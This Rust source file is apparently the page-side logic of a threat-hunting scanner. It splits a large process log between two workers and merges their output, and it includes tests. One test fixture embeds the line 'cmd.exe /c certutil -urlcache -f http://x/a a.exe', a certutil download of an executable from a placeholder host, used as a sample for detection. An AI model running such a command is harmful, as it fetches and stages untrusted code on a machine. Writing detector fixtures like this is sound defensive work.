//! One big CSV file read by two workers (issue 15): the page's half of
//! [`cmdhunt_core::split`], free of browser APIs so it tests natively.
//!
//! The bridge starts the first range's worker on `[0, boundary)` and the
//! second's on the header then `[boundary, end)` (both the file's one job),
//! and passes every message of either through a [`SplitJob`], which turns
//! them into the messages *one* worker reading the whole file would have
//! sent, so the reducer ([`crate::state`]) sees a single stream:
//!
//! * The first range's `Rows` and `Progress` go through as they are: its
//!   account is the account of the file's first bytes.
//! * The second range's rows are held (and its latest account kept) until
//!   the first range is done and its seam held ([`FromWorker::RangeRead`]);
//!   then they are shifted into the file's positions ([`Shift`]) and sent,
//!   and every account after that is [`split::merge`] of the first range's
//!   final summary and the second's latest account, so each `Progress` is
//!   still the account of a prefix `[0, N)` of the file and follows every
//!   row it counts. A cancel keeps the last one: "cancelled at byte N" means
//!   the first N bytes, exactly as with one worker (work the second range
//!   did beyond the first range's progress is dropped with it).
//! * The second range's `Done` is merged with the first's into the file's
//!   `Done` (summary, skips capped, positions shifted).
//! * When the first range's seam does not hold (a quoted line break across
//!   the boundary), its worker reads on to the end of the file, the second
//!   worker is stopped ([`SplitOut::StopSecond`]) and its work dropped: the
//!   first range's messages are then the whole file's.
//! * The file's one progress bar: [`SplitOut::Read`] after every message, the
//!   bytes both workers have read.
//!
//! An EVTX log ([`SplitJob::evtx`], [`cmdhunt_core::split::evtx`]) is cut on
//! a chunk boundary; its seam is judged by the *second* range (it stands
//! alone unless it looked up a 4688 parent it did not find), so the first
//! range's worker waits after its bytes for [`SplitOut::Decide`]: read on
//! (the second's work dropped) or finish. Its later range's positions need
//! no byte or line shift, only the first range's records.
//!
//! A JSON lines file ([`SplitJob::json`], [`cmdhunt_core::split::json`]) is
//! cut at a line start and has no header. Its seam needs both sides: the
//! first range's lines were all clean (its `RangeRead`) and the second
//! range stands alone (clean too, no 4688 parent looked up and not found:
//! its `RangeRead`). The first range's worker waits after its bytes as an
//! EVTX log's does; the page says read on as soon as the first range was
//! not clean, or once the second did not stand alone. The second range's
//! positions shift by the boundary's byte, the first range's line breaks
//! and records.

use cmdhunt_core::scan::{FileSummary, FlaggedRow};
use cmdhunt_core::split::{self, RangePart, Shift};

use crate::protocol::{FieldBlock, FromWorker, RangeKind, RowDto, ScanRange};

/// Whether a first range ending at `boundary` may be cut off: it holds at
/// least the bytes the scan sniffs the format from
/// ([`cmdhunt_core::format::SNIFF_BYTES`]). Before that a scan has decoded
/// nothing, so the account of a shorter prefix (what a cancel keeps) is
/// not what the first range's finished scan says; no file over the
/// threshold is cut that early anyway.
pub fn first_range_fits(boundary: u64) -> bool {
    boundary >= cmdhunt_core::format::SNIFF_BYTES as u64
}

/// Where a file is cut in two.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cut {
    /// The second range's first byte.
    pub boundary: u64,
    /// The bytes a later range's decoder reads first: a CSV's header
    /// record, an EVTX log's 4 KiB file header.
    pub header: Vec<u8>,
    /// Length of the CSV's (or JSON lines file's) byte-order mark.
    pub bom: u32,
    /// What is cut: a CSV, an EVTX log (on a chunk boundary), JSON lines.
    pub kind: RangeKind,
}

/// Where to cut a file of `size` bytes whose first bytes are `head`: an
/// EVTX log on the chunk boundary nearest its middle
/// ([`split::evtx::plan`], from `head` alone), JSON lines or a CSV at the
/// first line start in `window` (`(window_start, bytes)`,
/// [`split::window`]; [`split::json::plan`], [`split::plan`]). `None`: read
/// it whole (or, with no window, not an EVTX log: read the window and ask
/// again).
pub fn cut_of(head: &[u8], size: u64, window: Option<(u64, &[u8])>) -> Option<Cut> {
    if head.starts_with(b"ElfFile\0") {
        let header = head.get(..split::evtx::HEADER_BYTES)?;
        let plan = split::evtx::plan(header, size, 2)?;
        return Some(Cut {
            boundary: *plan.starts.get(1)?,
            header: header.to_vec(),
            bom: 0,
            kind: RangeKind::Evtx,
        });
    }
    let (window_start, window) = window?;
    if let Some(plan) = split::json::plan(head, &[(window_start, window)], size) {
        // JSON lines: no header; the cut is the first line start in the window.
        let boundary = *plan.starts.first()?;
        return first_range_fits(boundary).then_some(Cut {
            boundary,
            header: Vec::new(),
            bom: plan.bom as u32,
            kind: RangeKind::Json,
        });
    }
    let plan = split::plan(head, window, window_start, size)?;
    if !first_range_fits(plan.boundary) {
        return None;
    }
    Some(Cut {
        boundary: plan.boundary,
        header: head.get(..plan.header_end)?.to_vec(),
        bom: plan.bom as u32,
        kind: RangeKind::Csv,
    })
}

impl Cut {
    /// The two ranges of a file of `size` bytes cut here, as the workers
    /// are told them.
    pub fn ranges(&self, size: u64) -> [ScanRange; 2] {
        let (header_end, bom, kind) = (self.header.len() as u64, self.bom, self.kind);
        [(0, self.boundary), (self.boundary, size)].map(|(start, end)| ScanRange {
            start,
            end,
            header_end,
            bom,
            kind,
        })
    }

    /// The page's account of job `job`, a file of `size` bytes cut here.
    pub fn job(&self, job: u32, size: u64) -> SplitJob {
        match self.kind {
            RangeKind::Evtx => SplitJob::evtx(job, size, self.boundary),
            RangeKind::Json => SplitJob::json(job, size, self.boundary),
            RangeKind::Csv => SplitJob::new(job, size, self.boundary, &self.header),
        }
    }
}

/// What the page does for a split file's message.
#[derive(Debug)]
pub enum SplitOut {
    /// Apply this message, as if from a single worker reading the whole file.
    Message(FromWorker),
    /// Both workers together have read this many of the file's bytes (the
    /// file's progress bar).
    Read(u64),
    /// Stop the second range's worker: its work is not needed (the seam did
    /// not hold, or the first range ended the file's scan).
    StopSecond,
    /// Tell the first range's worker of a split EVTX log or JSON lines file,
    /// which waits after its range, whether to read on to the end (`true`:
    /// the seam does not hold, and the second range's work is dropped).
    Decide(bool),
}

/// The page's account of one file read as two ranges.
#[derive(Debug)]
pub struct SplitJob {
    job: u32,
    size: u64,
    /// The second range's first byte.
    boundary: u64,
    /// Header bytes the second range's decoder was fed first.
    prefix: u64,
    /// Line breaks in those bytes.
    prefix_newlines: u64,
    /// The first range read its bytes and its seam held: its line breaks.
    first_newlines: Option<u64>,
    /// The first range's seam did not hold: it reads the whole file.
    rescan: bool,
    /// The first range's final summary (seam held).
    first_done: Option<FileSummary>,
    /// The file's `Done` has been sent.
    finished: bool,
    /// Bytes each range has read (the second's without its header).
    read: [u64; 2],
    /// The second range's rows, held until the first range is done.
    held: Vec<(Vec<RowDto>, FieldBlock)>,
    /// The second range's latest account (its positions unshifted).
    second_account: Option<FileSummary>,
    /// The second range's final summary.
    second_done: Option<FileSummary>,
    /// What is split: a CSV's first range judges its seam alone; an EVTX
    /// log's and a JSON lines file's first range waits for [`SplitOut::Decide`].
    kind: RangeKind,
    /// The first range's word on the seam (JSON lines: its lines were clean).
    first_clean: Option<bool>,
    /// The second range's word on the seam (it stands alone).
    second_alone: Option<bool>,
    /// The first range's worker was told whether to read on (EVTX, JSON).
    decided: bool,
}

impl SplitJob {
    /// A file of `size` bytes, job `job`, split at `boundary`; the second
    /// range's decoder is fed `header` (the file's bytes `[0, header_end)`)
    /// first.
    pub fn new(job: u32, size: u64, boundary: u64, header: &[u8]) -> Self {
        SplitJob {
            job,
            size,
            boundary,
            prefix: header.len() as u64,
            prefix_newlines: header.iter().filter(|&&b| b == b'\n').count() as u64,
            first_newlines: None,
            rescan: false,
            first_done: None,
            finished: false,
            read: [0, 0],
            held: Vec::new(),
            second_account: None,
            second_done: None,
            kind: RangeKind::Csv,
            first_clean: None,
            second_alone: None,
            decided: false,
        }
    }

    /// An EVTX log of `size` bytes cut at chunk boundary `boundary`: the
    /// second range's decoder was fed the file header and a zero block per
    /// earlier chunk, which stand for the bytes before it (its byte offsets
    /// are the file's).
    pub fn evtx(job: u32, size: u64, boundary: u64) -> Self {
        SplitJob {
            prefix: boundary,
            prefix_newlines: 0,
            kind: RangeKind::Evtx,
            ..SplitJob::new(job, size, boundary, &[])
        }
    }

    /// A JSON lines file of `size` bytes cut at line start `boundary`: the
    /// second range's decoder starts there, fed nothing before it.
    pub fn json(job: u32, size: u64, boundary: u64) -> Self {
        SplitJob {
            kind: RangeKind::Json,
            ..SplitJob::new(job, size, boundary, &[])
        }
    }

    /// The job both workers run.
    pub fn job(&self) -> u32 {
        self.job
    }

    /// Bytes both workers have read (what the progress bar shows).
    pub fn bytes_read(&self) -> u64 {
        if self.rescan {
            self.read[0]
        } else {
            self.read[0] + self.read[1]
        }
    }

    /// A message from range `range` (0: the first, 1: the second) of this
    /// file: what to apply, in order.
    pub fn receive(&mut self, range: usize, message: FromWorker) -> Vec<SplitOut> {
        let mut out = Vec::new();
        if self.finished {
            return out;
        }
        if range == 0 {
            self.first(message, &mut out);
        } else if !self.rescan {
            self.second(message, &mut out);
        }
        if !self.finished {
            out.push(SplitOut::Read(self.bytes_read()));
        }
        out
    }

    fn first(&mut self, message: FromWorker, out: &mut Vec<SplitOut>) {
        match message {
            FromWorker::Progress { ref account, .. } => {
                self.read[0] = account.bytes;
                out.push(SplitOut::Message(message));
            }
            FromWorker::RangeRead { held, newlines, .. } if self.kind == RangeKind::Json => {
                // (Already reading on: the second range did not stand alone.)
                if held && !self.rescan {
                    self.first_newlines = Some(newlines);
                }
                self.first_clean = Some(held);
                self.decide(out);
            }
            FromWorker::RangeRead { held, newlines, .. } => {
                if held {
                    self.first_newlines = Some(newlines);
                } else {
                    self.rescan(out);
                }
            }
            FromWorker::Done { summary, .. } if self.first_newlines.is_some() && !self.rescan => {
                let mut summary = *summary;
                self.read[0] = summary.bytes;
                if summary.error.is_some() {
                    // The whole-file scan stops at the error too (and counts
                    // every byte as read).
                    summary.bytes = self.size;
                    self.finish(summary, out);
                    return;
                }
                // The first range's last rows came before: count them now.
                out.push(SplitOut::Message(FromWorker::progress(self.job, &summary)));
                self.first_done = Some(summary);
                for (mut rows, fields) in std::mem::take(&mut self.held) {
                    self.shift(&mut rows);
                    out.push(SplitOut::Message(FromWorker::Rows {
                        job: self.job,
                        rows,
                        fields,
                    }));
                }
                if let Some(done) = self.second_done.take() {
                    let merged = self.merged(done);
                    self.finish(merged, out);
                } else if let Some(account) = self.second_account.clone() {
                    let merged = self.merged(account);
                    out.push(SplitOut::Message(FromWorker::progress(self.job, &merged)));
                }
            }
            FromWorker::Done { summary, .. } => {
                // The whole file's (a rescan), or the first range stopped
                // before its end (a read failure): the file's result.
                let summary = *summary;
                self.read[0] = summary.bytes;
                self.finish(summary, out);
            }
            FromWorker::Panicked { .. } => {
                self.finished = true;
                out.push(SplitOut::Message(message));
                out.push(SplitOut::StopSecond);
            }
            // Rows of the file's first bytes; validation never splits a file.
            FromWorker::Rows { .. } | FromWorker::Validated { .. } => {
                out.push(SplitOut::Message(message))
            }
            // Never from a scan's worker (crate::context_job has its own).
            FromWorker::Context { .. } => {}
        }
    }

    /// The seam did not hold: the first worker reads on to the end, the
    /// second's work is dropped.
    fn rescan(&mut self, out: &mut Vec<SplitOut>) {
        self.rescan = true;
        self.first_newlines = None;
        self.held.clear();
        self.second_account = None;
        self.second_done = None;
        out.push(SplitOut::StopSecond);
    }

    /// Once the words on the seam decide it (EVTX: the second range's; JSON
    /// lines: either range's "no", or both ranges' "yes"), tell the waiting
    /// first range whether to read on.
    fn decide(&mut self, out: &mut Vec<SplitOut>) {
        if self.decided {
            return;
        }
        let read_on = match (self.kind, self.first_clean, self.second_alone) {
            (RangeKind::Csv, _, _) => return,
            (RangeKind::Evtx, _, Some(alone)) => !alone,
            (RangeKind::Json, Some(false), _) | (RangeKind::Json, _, Some(false)) => true,
            (RangeKind::Json, Some(true), Some(true)) => false,
            _ => return,
        };
        self.decided = true;
        if read_on {
            self.rescan(out);
        }
        out.push(SplitOut::Decide(read_on));
    }

    fn second(&mut self, message: FromWorker, out: &mut Vec<SplitOut>) {
        let waits = self.kind.first_waits() && !self.decided;
        match message {
            FromWorker::RangeRead { held, .. } if waits => {
                self.second_alone = Some(held);
                self.decide(out);
                return;
            }
            FromWorker::Done { .. } if waits => {
                // Ended before its range's end (a read failure): its error
                // is the file's after the first range; let that finish
                // (unless the first range reads on anyway). After its
                // range's end its word is in already (JSON lines: the
                // first range's may not be).
                self.second_alone.get_or_insert(true);
                self.decide(out);
                if self.rescan {
                    return;
                }
            }
            _ => {}
        }
        match message {
            FromWorker::Progress { .. } => {
                let account = account(&message);
                self.read[1] = account.bytes.saturating_sub(self.prefix);
                if self.first_done.is_some() {
                    let merged = self.merged(account.clone());
                    out.push(SplitOut::Message(FromWorker::progress(self.job, &merged)));
                }
                self.second_account = Some(account);
            }
            FromWorker::Rows {
                mut rows, fields, ..
            } => {
                if self.first_done.is_some() {
                    self.shift(&mut rows);
                    out.push(SplitOut::Message(FromWorker::Rows {
                        job: self.job,
                        rows,
                        fields,
                    }));
                } else {
                    self.held.push((rows, fields));
                }
            }
            FromWorker::Done { summary, .. } => {
                self.read[1] = summary.bytes.saturating_sub(self.prefix);
                if self.first_done.is_some() {
                    let merged = self.merged(*summary);
                    self.finish(merged, out);
                } else {
                    self.second_done = Some(*summary);
                }
            }
            FromWorker::Panicked { .. } => {
                self.finished = true;
                out.push(SplitOut::Message(message));
            }
            FromWorker::RangeRead { .. }
            | FromWorker::Validated { .. }
            | FromWorker::Context { .. } => {}
        }
    }

    /// Send the file's `Done`.
    fn finish(&mut self, summary: FileSummary, out: &mut Vec<SplitOut>) {
        self.finished = true;
        out.push(SplitOut::Read(summary.bytes));
        out.push(SplitOut::Message(FromWorker::Done {
            job: self.job,
            summary: Box::new(summary),
        }));
        out.push(SplitOut::StopSecond);
    }

    /// Where the second range's positions go in the file.
    fn shift_of(&self) -> Shift {
        let first = self.first_done.as_ref().map_or(0, |s| s.records);
        Shift::new(
            self.boundary,
            self.prefix,
            self.prefix_newlines,
            first,
            self.first_newlines.unwrap_or(0),
        )
    }

    fn shift(&self, rows: &mut [RowDto]) {
        let shift = self.shift_of();
        for r in rows {
            shift.position(&mut r.row.position);
        }
    }

    /// The first range's final summary merged with `second` (the second
    /// range's account so far, or its final summary).
    fn merged(&self, second: FileSummary) -> FileSummary {
        let first = self.first_done.clone().unwrap_or_default();
        let first = RangePart {
            bytes: first.bytes,
            summary: first,
            rows: Vec::new(),
            start: 0,
            prefix: 0,
            prefix_newlines: 0,
            newlines: self.first_newlines.unwrap_or(0),
        };
        let second = RangePart {
            bytes: second.bytes.saturating_sub(self.prefix),
            summary: second,
            rows: Vec::<FlaggedRow>::new(),
            start: self.boundary,
            prefix: self.prefix,
            prefix_newlines: self.prefix_newlines,
            newlines: 0,
        };
        split::merge(first, second).0
    }
}

/// The account a `Progress` carries.
fn account(message: &FromWorker) -> FileSummary {
    match message {
        FromWorker::Progress { account, .. } => (**account).clone(),
        _ => FileSummary::default(),
    }
}

/// How the page's workers read a file: when a file is read by two workers,
/// where it is cut, and with which stream reader.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SplitSettings {
    /// Files from this size are split.
    pub threshold: u64,
    /// The cut is the first line start after this fraction of the file
    /// (one half: two ranges of the same size).
    pub at: f64,
    /// Read with a BYOB reader where the browser has one (the default);
    /// `false`: the stream's default reader (`static/bootstrap.js`, `feed`).
    pub byob: bool,
    /// The bytes of each input the page's warm-up scans while it is idle
    /// ([`crate::warm_up`]); 0: no warm-up.
    pub warm_up: usize,
}

impl Default for SplitSettings {
    fn default() -> Self {
        SplitSettings {
            threshold: split::SPLIT_THRESHOLD,
            at: 0.5,
            byob: true,
            warm_up: crate::warm_up::WARM_UP_BYTES,
        }
    }
}

impl SplitSettings {
    /// The page's: [`split::SPLIT_THRESHOLD`] at the middle, BYOB reads,
    /// unless its fragment says otherwise ([`SplitSettings::from_hash`]).
    #[cfg(target_arch = "wasm32")]
    pub fn of_page() -> Self {
        Self::from_hash(&crate::browser::location_hash())
    }

    /// The settings a page fragment asks for, `&`-separated in any order:
    /// `split-threshold=BYTES`, `split-at=FRACTION` (between 0 and 1),
    /// `reader=stream` (the default reader, not BYOB), `warm-up=BYTES`
    /// (0: none; the benchmark compares). The browser tests
    /// split small real files with it, cut a file early so that a cancel
    /// lands after the first range is done, and read with either reader;
    /// the page benchmark (`web/perf/pagebench.py`) compares them. Anything
    /// else: the defaults.
    pub fn from_hash(hash: &str) -> Self {
        let mut settings = SplitSettings::default();
        for part in hash.trim_start_matches('#').split('&') {
            let Some((key, value)) = part.split_once('=') else {
                continue;
            };
            match key {
                "split-threshold" => {
                    if let Ok(t) = value.parse() {
                        settings.threshold = t;
                    }
                }
                "split-at" => {
                    if let Ok(at) = value.parse::<f64>() {
                        if at > 0.0 && at < 1.0 {
                            settings.at = at;
                        }
                    }
                }
                "reader" => settings.byob = value != "stream",
                "warm-up" => {
                    if let Ok(bytes) = value.parse() {
                        settings.warm_up = bytes;
                    }
                }
                _ => {}
            }
        }
        settings
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::full_rows;
    use crate::session::ScanSession;
    use crate::state::{Action, AppState, NewFile, Status};
    use crate::testdata::{sample_csv, shared_data, shared_files};
    use cmdhunt_core::format::Format;
    use cmdhunt_core::matcher::CompiledRule;
    use cmdhunt_core::scan::FileScan;
    use cmdhunt_core::split::json::{JsonPlan, JsonRangeScan};
    use cmdhunt_core::split::Plan;

    const JOB: u32 = 1;

    /// The plan the bridge makes for `bytes` (head and middle window).
    fn plan_of(bytes: &[u8]) -> Option<Plan> {
        plan_at(bytes, 0.5)
    }

    /// The plan the bridge makes when told to cut at fraction `at`
    /// (`#split-threshold=..&split-at=`).
    fn plan_at(bytes: &[u8], at: f64) -> Option<Plan> {
        let size = bytes.len() as u64;
        let head = &bytes[..bytes.len().min(split::HEAD_BYTES)];
        let (start, end) = split::window(size, at);
        split::plan(head, &bytes[start as usize..end as usize], start, size)
    }

    /// What a worker with session `s` sends for range `range` (0 or 1) of
    /// `bytes` cut at `boundary`, in `chunk`-byte pieces, one `Progress` per
    /// piece: its range, its `RangeRead`, the rest of the file when the first
    /// range reads on, and its `Done`. Whether it reads on: a CSV's first
    /// range's own word (`told`: `None`), or the page's (`Some`: EVTX and JSON
    /// lines first ranges wait for it).
    fn worker_messages(
        mut s: ScanSession<'_>,
        bytes: &[u8],
        boundary: u64,
        range: usize,
        told: Option<bool>,
        chunk: usize,
    ) -> Vec<FromWorker> {
        let b = boundary as usize;
        let mut out = Vec::new();
        let mut t = 0.0;
        let mut feed = |s: &mut ScanSession, data: &[u8], out: &mut Vec<FromWorker>| {
            for c in data.chunks(chunk) {
                t += 1000.0;
                out.extend(s.push(c, t));
            }
        };
        let (start, end) = if range == 0 { (0, b) } else { (b, bytes.len()) };
        feed(&mut s, &bytes[start..end], &mut out);
        let (read, reads_on_alone) = s.end_range();
        out.extend(read);
        let read_on = match told {
            Some(word) => {
                assert!(!reads_on_alone, "a waiting range reads on only when told");
                word
            }
            None => reads_on_alone,
        };
        if range == 0 && read_on {
            feed(&mut s, &bytes[b..], &mut out);
        }
        out.extend(s.finish());
        out
    }

    /// What range `range`'s worker sends for `bytes` split by `plan`, in
    /// `chunk`-byte pieces, one `Progress` per piece.
    fn range_messages(bytes: &[u8], plan: &Plan, range: usize, chunk: usize) -> Vec<FromWorker> {
        let rule = CompiledRule::new();
        let s = if range == 0 {
            ScanSession::new(&rule, JOB, 0, "test", None)
                .expect("session")
                .first_range(plan)
        } else {
            ScanSession::new(&rule, JOB, 0, "test", Some("csv"))
                .expect("session")
                .later_range(&bytes[..plan.header_end], plan.boundary)
        };
        worker_messages(s, bytes, plan.boundary, range, None, chunk)
    }

    /// The two ranges' messages through a [`SplitJob`], delivered in the
    /// order `prefer` gives (the range whose next message comes at step
    /// `i`, when it has one left), and what the page applies.
    fn through_split(
        bytes: &[u8],
        plan: &Plan,
        chunk: usize,
        prefer: fn(usize) -> usize,
    ) -> Vec<SplitOut> {
        let mut queues = [
            range_messages(bytes, plan, 0, chunk).into_iter(),
            range_messages(bytes, plan, 1, chunk).into_iter(),
        ];
        let header = &bytes[..plan.header_end];
        let mut job = SplitJob::new(JOB, bytes.len() as u64, plan.boundary, header);
        let mut out = Vec::new();
        for i in 0.. {
            let r = prefer(i);
            let (m, from) = match (queues[r].next(), r) {
                (Some(m), r) => (m, r),
                (None, r) => match queues[1 - r].next() {
                    Some(m) => (m, 1 - r),
                    None => break,
                },
            };
            out.extend(job.receive(from, m));
        }
        out
    }

    /// The core's account of the file's first `n` bytes.
    fn prefix_account(bytes: &[u8], n: u64) -> FileSummary {
        let rule = CompiledRule::new();
        let mut scan = FileScan::new(&rule, 0, "test", None);
        scan.push(&bytes[..n as usize]);
        scan.summary().clone()
    }

    /// Check what the page applies for a split file: the rows (every field)
    /// and the `Done` summary equal the core's whole-file scan; every
    /// `Progress` follows exactly the rows it counts and (for up to
    /// `prefix_checks` of them) equals the core's account of the file's
    /// first `bytes` bytes (what a cancel keeps).
    fn check(name: &str, bytes: &[u8], out: Vec<SplitOut>, prefix_checks: usize) {
        let rule = CompiledRule::new();
        let mut whole = FileScan::new(&rule, 0, "test", None);
        whole.push(bytes);
        let (want, want_rows) = whole.finish();
        let mut rows: Vec<FlaggedRow> = Vec::new();
        let mut done = None;
        let mut progresses = Vec::new();
        for o in out {
            match o {
                SplitOut::Message(m) => {
                    assert!(done.is_none(), "{name}: nothing after Done");
                    match m {
                        FromWorker::Rows {
                            rows: r, fields, ..
                        } => rows.extend(full_rows(r, &fields)),
                        FromWorker::Progress { .. } => {
                            let a = account(&m);
                            assert_eq!(a.flagged, rows.len() as u64, "{name}: counted rows");
                            progresses.push(a);
                        }
                        FromWorker::Done { summary, .. } => done = Some(*summary),
                        other => panic!("{name}: unexpected {other:?}"),
                    }
                }
                SplitOut::Read(n) => assert!(n <= bytes.len() as u64, "{name}"),
                SplitOut::StopSecond | SplitOut::Decide(_) => {}
            }
        }
        assert_eq!(done.as_ref(), Some(&want), "{name}: summary");
        assert_eq!(rows, want_rows, "{name}: rows");
        let step = progresses.len().div_ceil(prefix_checks.max(1)).max(1);
        for p in progresses.iter().step_by(step) {
            let core = prefix_account(bytes, p.bytes);
            let core = FileSummary {
                skips: Vec::new(),
                first_bad_timestamp: None,
                bad_timestamps: 0,
                error: None,
                ..core
            };
            let p = FileSummary {
                name: core.name.clone(),
                ..p.clone()
            };
            assert_eq!(p, core, "{name}: the account at byte {}", p.bytes);
        }
    }

    /// Orders of arrival: the first range's messages first, the second's
    /// first, alternating, and mostly the second's.
    const ORDERS: [fn(usize) -> usize; 4] = [|_| 0, |_| 1, |i| i % 2, |i| usize::from(i % 4 != 3)];

    #[test]
    fn a_split_file_gives_the_whole_files_rows_summary_and_accounts() {
        let mut files: Vec<(String, Vec<u8>)> = vec![("sample".into(), sample_csv().to_vec())];
        for name in [
            "mde_proc_cs1.csv",
            "advanced_hunting_test.csv",
            "processes_on_host.csv",
            "process_tree.csv",
        ] {
            if let Some(b) = shared_data(&format!("defender/{name}")) {
                files.push((name.into(), b));
            }
        }
        let mut split = 0;
        for (name, bytes) in &files {
            let Some(plan) = plan_of(bytes) else { continue };
            split += 1;
            // Other cut points, two orders each.
            for at in [0.05, 0.3, 0.7, 0.95] {
                let Some(plan) = plan_at(bytes, at).filter(|p| first_range_fits(p.boundary)) else {
                    continue;
                };
                for (i, order) in [(0, ORDERS[0]), (3, ORDERS[3])] {
                    let out = through_split(bytes, &plan, 65_536, order);
                    check(&format!("{name}, cut at {at}, order {i}"), bytes, out, 4);
                }
            }
            for (i, order) in ORDERS.iter().enumerate() {
                for chunk in [997, 65_536] {
                    let out = through_split(bytes, &plan, chunk, *order);
                    let checks = if bytes.len() > 1 << 20 { 4 } else { 40 };
                    check(
                        &format!("{name}, order {i}, chunk {chunk}"),
                        bytes,
                        out,
                        checks,
                    );
                }
            }
        }
        assert!(split >= 2, "{split} files split");
    }

    /// A CSV whose middle lies inside a quoted `ProcessCommandLine` full of
    /// line breaks (a flagged one): the split's candidate boundary is
    /// inside the quotes.
    fn quoted_break_across_the_middle() -> Vec<u8> {
        let sample = sample_csv();
        let nl = sample.iter().position(|&b| b == b'\n').expect("a header") + 1;
        let (header, body) = sample.split_at(nl);
        let mut out = header.to_vec();
        for _ in 0..3 {
            out.extend_from_slice(body);
        }
        out.extend_from_slice(
            b"2024-05-14T09:00:00Z,id,ws-1,ProcessCreated,cmd.exe,C:\\Windows\\System32\\cmd.exe,ab,7,\"cmd.exe /c certutil -urlcache -f http://x/a a.exe",
        );
        for i in 0..2_000 {
            out.extend_from_slice(
                format!("\nline {i} of a quoted, \"\"multi-line\"\" command").as_bytes(),
            );
        }
        out.extend_from_slice(b"\",contoso,bob,explorer.exe,explorer.exe,userinit.exe,9\n");
        for _ in 0..3 {
            out.extend_from_slice(body);
        }
        out
    }

    #[test]
    fn a_seam_inside_quotes_is_rescanned_by_the_first_range() {
        let bytes = quoted_break_across_the_middle();
        let plan = plan_of(&bytes).expect("a plan");
        // The boundary is a line start inside the quoted field.
        let before = &bytes[..plan.boundary as usize];
        let quotes = before.iter().filter(|&&b| b == b'"').count();
        assert!(quotes % 2 == 1, "the boundary is inside quotes");
        for (i, order) in ORDERS.iter().enumerate() {
            let out = through_split(&bytes, &plan, 4096, *order);
            assert!(
                out.iter().any(|o| matches!(o, SplitOut::StopSecond)),
                "order {i}: the second worker is stopped"
            );
            check(&format!("quoted seam, order {i}"), &bytes, out, 40);
        }
        // Merging at that boundary would differ from the whole scan: the
        // rescan is what makes the result right.
        let rule = CompiledRule::new();
        let mut whole = FileScan::new(&rule, 0, "test", None);
        whole.push(&bytes);
        let want = whole.finish().0;
        let mut first =
            cmdhunt_core::split::RangeScan::first(FileScan::new(&rule, 0, "test", None), &plan);
        first.push(&bytes[..plan.boundary as usize]);
        assert!(!first.at_record_start());
        let mut second = cmdhunt_core::split::RangeScan::after(
            FileScan::new(&rule, 0, "test", Some(cmdhunt_core::format::Format::Csv)),
            &bytes[..plan.header_end],
            plan.boundary,
        );
        second.push(&bytes[plan.boundary as usize..]);
        assert_ne!(split::merge(first.finish(), second.finish()).0, want);
    }

    /// The page's state fed a split file's messages up to `upto`, then
    /// cancelled: what it keeps.
    fn cancelled_after(out: &[SplitOut], upto: usize, size: u64) -> AppState {
        let mut state = AppState::default();
        state.apply(Action::AddFiles(vec![NewFile::new("test", size)]));
        let job = state.files[0].job;
        state.apply(Action::Started { job, now_ms: 0.0 });
        for o in &out[..upto] {
            match o {
                SplitOut::Message(m) => {
                    let mut m = m.clone();
                    set_job(&mut m, job);
                    state.apply(Action::Worker(m, 1.0));
                }
                SplitOut::Read(bytes) => state.apply(Action::Read {
                    job,
                    bytes: *bytes,
                    now_ms: 1.0,
                }),
                SplitOut::StopSecond | SplitOut::Decide(_) => {}
            }
        }
        state.apply(Action::Cancel(0));
        state
    }

    fn set_job(m: &mut FromWorker, to: u32) {
        match m {
            FromWorker::Progress { job, .. }
            | FromWorker::Rows { job, .. }
            | FromWorker::Done { job, .. }
            | FromWorker::Validated { job, .. }
            | FromWorker::RangeRead { job, .. }
            | FromWorker::Context { job, .. }
            | FromWorker::Panicked { job, .. } => *job = to,
        }
    }

    #[test]
    fn a_split_file_cancelled_anywhere_keeps_the_cores_account_of_its_first_bytes() {
        let Some(bytes) = shared_data("defender/mde_proc_cs1.csv") else {
            return; // no shared data in this checkout
        };
        let plan = plan_of(&bytes).expect("a plan");
        // The second range's messages mostly first (cancels land while its
        // rows are held), and the first range's first (cancels land after
        // it was merged, in the second range's bytes).
        let outs = [ORDERS[3], ORDERS[0]].map(|order| through_split(&bytes, &plan, 65_536, order));
        check_cancels(&bytes, plan.boundary, &outs);
    }

    #[test]
    fn a_split_json_lines_file_cancelled_anywhere_keeps_the_cores_account_of_its_first_bytes() {
        // evtx_dump's JSON lines: flagged rows in both ranges.
        let Some(bytes) = shared_data("xml/PanacheSysmon_vs_AtomicRedTeam01.evtx_dump.jsonl")
        else {
            return; // no shared data in this checkout
        };
        let plan = json_plan_at(&bytes, 0.5).expect("a plan");
        let outs = [ORDERS[3], ORDERS[0]].map(|order| {
            let (out, read_on) = through_split_json(&bytes, &plan, 16_384, order);
            assert!(!read_on, "the seam holds");
            out
        });
        check_cancels(&bytes, plan.starts[0], &outs);
    }

    /// The page's state cancelled at a dozen points of each of `outs` (what
    /// the page applies for a file split at `boundary`) keeps the core's
    /// account, rows and positions of the file's first bytes; some cancels
    /// land while the second range's rows are held, some after the merge.
    fn check_cancels(bytes: &[u8], boundary: u64, outs: &[Vec<SplitOut>]) {
        let size = bytes.len() as u64;
        let (mut seen_held, mut seen_merged) = (false, false);
        for out in outs {
            for upto in (0..out.len())
                .step_by(out.len() / 12 + 1)
                .chain([out.len() - 2])
            {
                seen_held |= out[..upto]
                    .iter()
                    .any(|o| matches!(o, SplitOut::Read(n) if *n > boundary))
                    && !out[..upto]
                        .iter()
                        .any(|o| matches!(o, SplitOut::Message(FromWorker::Done { .. })));
                let state = cancelled_after(out, upto, size);
                let f = &state.files[0];
                let Status::Cancelled { at } = f.status else {
                    panic!("cancelled: {:?}", f.status);
                };
                seen_merged |= at > boundary;
                let want = prefix_account(bytes, at);
                let got = f.summary.clone().expect("an account");
                assert_eq!(
                    (
                        got.records,
                        got.process_creations,
                        got.shell,
                        got.flagged,
                        got.flag_counts,
                        got.skipped
                    ),
                    (
                        want.records,
                        want.process_creations,
                        want.shell,
                        want.flagged,
                        want.flag_counts,
                        want.skipped
                    ),
                    "cancelled at byte {at} (message {upto})"
                );
                assert_eq!(
                    state.rows.len() as u64,
                    want.flagged,
                    "rows kept at byte {at}"
                );
                let rule = CompiledRule::new();
                let mut core = FileScan::new(&rule, 0, "test", None);
                core.push(&bytes[..at as usize]);
                let core_rows: Vec<_> = core.take_rows().into_iter().map(|r| r.position).collect();
                let rows: Vec<_> = state.rows.iter().map(|r| r.position).collect();
                assert_eq!(rows, core_rows, "positions at byte {at}");
            }
        }
        assert!(
            seen_held && seen_merged,
